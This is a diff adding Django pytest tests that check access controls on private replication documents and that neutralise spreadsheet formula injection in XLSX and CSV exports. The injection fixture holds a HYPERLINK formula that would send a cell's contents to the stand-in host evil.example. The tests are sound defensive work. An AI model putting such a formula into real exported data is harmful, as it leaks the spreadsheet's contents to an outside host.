@@ -86,3 +86,90 @@ def test_other_agency_autosave_is_404_like_a_missing_id(client, draft):
     client.force_login(AdminLokalFactory())
     assert client.post(reverse("competition:proposal_autosave", args=[draft.pk]), {}).status_code == 404
     assert client.post(reverse("competition:proposal_autosave", args=[draft.pk + 1000]), {}).status_code == 404
+
+
+# --- 3. hub admins and mentors with an agency are not that agency's members in replication -------
+
+
+@pytest.fixture
+def private_letter():
+    from django.core.files.base import ContentFile
+
+    from jipp.replication.models import Document
+    from tests.factories.replication import PDF, ReplicationFactory
+
+    replication = ReplicationFactory(status="declined")
+    document = Document(replication=replication, kind=Document.Kind.REQUEST_LETTER, side=Document.Side.ADOPTER,
+                        original_name="surat.pdf", content_type="application/pdf", size=len(PDF))  # fmt: skip
+    document.file.save("surat.pdf", ContentFile(PDF), save=False)
+    document.save()
+    return document
+
+
+@pytest.mark.parametrize("role", ["hub_admin", "mentor"])
+def test_hub_people_with_an_agency_do_not_read_its_private_replications(client, private_letter, role):
+    from tests.factories import UserFactory
+
+    replication = private_letter.replication
+    for agency in (replication.adopter_agency, replication.source_agency):
+        client.force_login(UserFactory(role=role, agency=agency))
+        assert client.get(reverse("replication:document", args=[private_letter.pk])).status_code == 404
+        assert client.get(reverse("replication:detail", args=[replication.public_id])).status_code in (403, 404)
+        api = client.get(f"/api/v1/replications/{replication.public_id}/")
+        assert api.status_code == 404
+        assert client.get("/api/v1/replications/").json()["count"] == 0
+
+
+def test_admin_lokal_of_the_adopter_still_reads_its_letter(client, private_letter):
+    client.force_login(AdminLokalFactory(agency=private_letter.replication.adopter_agency))
+    assert client.get(reverse("replication:document", args=[private_letter.pk])).status_code == 200
+
+
+# --- 4. spreadsheet formula injection in the KIPP edition export --------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+
+
+@pytest.fixture
+def formula_proposal():
+    from jipp.competition.models import Proposal
+
+    proposal = ProposalFactory(edition=juklak_edition(2026))
+    Proposal.objects.filter(pk=proposal.pk).update(title=FORMULA)
+    return proposal
+
+
+def test_kipp_export_xlsx_writes_formula_title_as_text(client, formula_proposal):
+    import io
+
+    from openpyxl import load_workbook
+
+    client.force_login(UppFactory(unit=formula_proposal.unit))
+    response = client.get(reverse("competition:export", args=[2026, "xlsx"]))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    titles = [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
+    assert titles == [FORMULA]
+    assert [c.data_type for c in cells] == ["s"]
+
+
+def test_kipp_export_csv_neutralises_formula_title(client, formula_proposal):
+    import csv
+    import io
+
+    client.force_login(UppFactory(unit=formula_proposal.unit))
+    response = client.get(reverse("competition:export", args=[2026, "csv"]))
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(body)))
+    assert rows[1][2] == "'" + FORMULA
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-5", "'-5"), ("@SUM(A1)", "'@SUM(A1)"), ("\\tx", "\\tx"),
+     ("\tx", "'\tx"), ("Gerai", "Gerai"), (5, 5), (-5, -5)],
+)  # fmt: skip
+def test_spreadsheet_safe(value, expected):
+    from jipp.core.exports import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == expected
